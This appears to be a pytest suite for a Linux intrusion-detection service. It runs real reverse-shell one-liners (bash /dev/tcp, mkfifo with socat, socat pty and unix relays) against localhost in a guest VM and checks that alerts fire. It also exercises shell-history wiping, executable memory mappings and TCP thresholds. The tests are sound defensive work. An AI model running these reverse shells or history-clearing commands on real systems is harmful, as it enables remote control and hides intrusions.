"""Alerts of section 10 on real attacks in the guest, and silence on the
look-alikes."""
import time

import pytest

from conftest import Service

SLEEP = "500ms"


@pytest.fixture(scope="module")
def svc(guest, tmp_path_factory):
    s = Service(tmp_path_factory.mktemp("alerts"), guest, sleep=SLEEP)
    yield s
    s.stop()


def alerts(svc, name, since):
    svc.poll()
    return [m for m in svc.messages[since:] if m["activity_data"]["name"] == name]


def run_case(guest, svc, setup, attack, cleanup, seconds=4):
    """Returns the Reverse Shell alerts raised while `attack` runs.  Each
    command runs in its own session (setsid): cleanup kills the groups."""
    groups = []
    if setup:
        groups.append(guest.spawn(setup))
        time.sleep(1)
    svc.poll()
    since = len(svc.messages)
    groups.append(guest.spawn(attack))
    time.sleep(seconds)
    found = alerts(svc, "Reverse Shell Detected", since)
    guest.run("; ".join(f"kill -9 -{g}" for g in groups) + "; " + cleanup)
    time.sleep(1)
    return found


LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"

ATTACKS = {
    "bash /dev/tcp": (LISTEN.format(port=4444),
                      "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", "bash"),
    "mkfifo sh | socat": (LISTEN.format(port=4445),
                          "rm -f /tmp/rsp; mkfifo /tmp/rsp; "
                          "sh -i </tmp/rsp 2>&1 | socat - TCP:127.0.0.1:4445 >/tmp/rsp", "sh"),
    "unix relay": (LISTEN.format(port=4446) + " & socat UNIX-LISTEN:/tmp/rs.sock EXEC:'sh -i',stderr",
                   "sleep 1; socat TCP:127.0.0.1:4446 UNIX-CONNECT:/tmp/rs.sock", "sh"),
    "pty shell": (LISTEN.format(port=4447),
                  "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:4447", "bash"),
}

CLEANUP = "rm -f /tmp/rsp /tmp/rs.sock; true"


@pytest.mark.parametrize("case", list(ATTACKS))
def test_reverse_shell(guest, svc, case):
    setup, attack, shell = ATTACKS[case]
    found = run_case(guest, svc, setup, attack, CLEANUP)
    assert len(found) == 1, f"{case}: {len(found)} Reverse Shell Detected alerts"
    m = found[0]
    assert m["message_type"] == "ALERT" and m["severity"] == "HIGH"
    chain = m["activity_data"]["process_list"]
    assert chain[0]["process_details"]["process_name"] == shell
    assert "file_descriptor_list" in chain[0]["process_details"]
    nets = [n for p in chain for n in p["process_details"]["network_connection_list"]]
    assert any(n["network_connection_details"]["destination_port"] in (4444, 4445, 4446, 4447)
               for n in nets), chain
    print(f"{case}: chain of {len(chain)} processes")


LOOKALIKES = {
    "shell piping to a local program": (None, "sh -c 'sleep 100 | cat >/dev/null'"),
    "socat relay TCP to a file": (LISTEN.format(port=4448),
                                  "socat TCP:127.0.0.1:4448 OPEN:/tmp/relay.out,creat"),
    "interactive bash on the console": (None, "exec bash -i </dev/ttyS0 >/dev/ttyS0 2>&1"),
    "daemon serving its children": ("socat TCP-LISTEN:4449,reuseaddr,fork EXEC:'sh -c cat'",
                                    "sleep 100 | socat - TCP:127.0.0.1:4449"),
}


@pytest.mark.parametrize("case", list(LOOKALIKES))
def test_reverse_shell_lookalikes(guest, svc, case):
    setup, action = LOOKALIKES[case]
    found = run_case(guest, svc, setup, action, CLEANUP + "; rm -f /tmp/relay.out")
    assert not found, f"{case}: raised {len(found)} Reverse Shell Detected"


def wait_alert(svc, name, pred, timeout):
    found = svc.wait_for(lambda m: m["activity_data"]["name"] == name and pred(m["activity_data"]),
                         timeout=timeout)
    return found


def pid_is(pid):
    return lambda a: a.get("process_details", {}).get("process_id") == pid


@pytest.mark.parametrize("mode,name,mtype,sev", [
    ("rwx", "New Executable Anonymous Memory Mapped", "EVENT", "WARNING"),
    ("memfd", "New Executable Anonymous Memory Mapped", "EVENT", "WARNING"),
    ("mprotect", "Executable Permissions Added", "ALERT", "MEDIUM"),
    ("mprotect", "Executable Permissions Removed", "ALERT", "MEDIUM"),
])
def test_executable_memory(guest, svc, mode, name, mtype, sev):
    pid = guest.spawn(f"exec memory {mode} 2")
    found = wait_alert(svc, name, pid_is(pid), timeout=12)
    guest.run(f"kill {pid}")
    assert len(found) == 1, f"{mode}: {len(found)} '{name}'"
    assert found[0]["message_type"] == mtype and found[0]["severity"] == sev
    v = found[0]["activity_data"]["process_memory_details"]
    assert "x" in v["memory_permissions"] or name.endswith("Removed")


def test_no_exec_memory_alert_on_plain_file_mapping(guest, svc):
    pid = guest.spawn("exec memory file 2")
    time.sleep(7)
    guest.run(f"kill {pid}")
    svc.poll()
    bad = [m for m in svc.messages if pid_is(pid)(m["activity_data"]) and
           m["activity_data"]["name"] in ("New Executable Anonymous Memory Mapped",
                                          "Executable Permissions Added")]
    assert not bad


def test_tcp_thresholds(guest, tmp_path):
    s = Service(tmp_path, guest, sleep=SLEEP,
                collection="  tcp_connection_excessive_data:\n    bytes_in: 1MB\n    bytes_out: 1GB\n"
                           "  tcp_long_lasting_connection:\n    duration: 3s\n")
    try:
        srv = guest.spawn("socat TCP-LISTEN:4450,reuseaddr SYSTEM:'cat >/dev/null'")
        time.sleep(1)
        # a client that sends a few MiB and stays: excessive data out of
        # the server's view is data *in*
        cli = guest.spawn("(head -c 4000000 /dev/zero; sleep 20) | socat - TCP:127.0.0.1:4450")
        ex = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Connection Excessive Data",
                        timeout=15)
        ll = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Long-Lasting Connection",
                        timeout=15)
        assert len(ex) == 1, f"{len(ex)} Excessive Data alerts"
        assert ex[0]["severity"] == "LOW" and ex[0]["message_type"] == "ALERT"
        assert ex[0]["activity_data"]["network_connection_details"]["tcp_bytes_in"] > 1 << 20
        assert len(ll) >= 1 and ll[0]["severity"] == "LOW"
        # once per connection, not once per scan
        time.sleep(3)
        s.poll()
        assert len([m for m in s.messages
                    if m["activity_data"]["name"] == "TCP Connection Excessive Data"]) == 1
        guest.run(f"kill -9 -{srv} -{cli}")
    finally:
        s.stop()


def test_shell_history_alerts(guest, svc):
    guest.check("rm -f /tmp/hf; mkfifo /tmp/hf")
    sh = guest.spawn("exec bash -i </tmp/hf >/dev/null 2>&1")
    holder = guest.spawn("exec sleep 100 >/tmp/hf")
    try:
        for cmd in ("echo one", "echo two"):
            guest.check(f"echo '{cmd}' >/tmp/hf")
        time.sleep(2)
        guest.check("echo 'history -c' >/tmp/hf")
        cl = wait_alert(svc, "Shell History Cleared", pid_is(sh), timeout=6)
        assert len(cl) == 1 and cl[0]["severity"] == "HIGH" and cl[0]["message_type"] == "ALERT"
        guest.check("echo 'HISTFILE=/dev/null' >/tmp/hf")
        ds = wait_alert(svc, "Shell History Disabled", pid_is(sh), timeout=6)
        assert len(ds) == 1 and ds[0]["severity"] == "HIGH"
    finally:
        guest.run(f"kill {holder} {sh}")
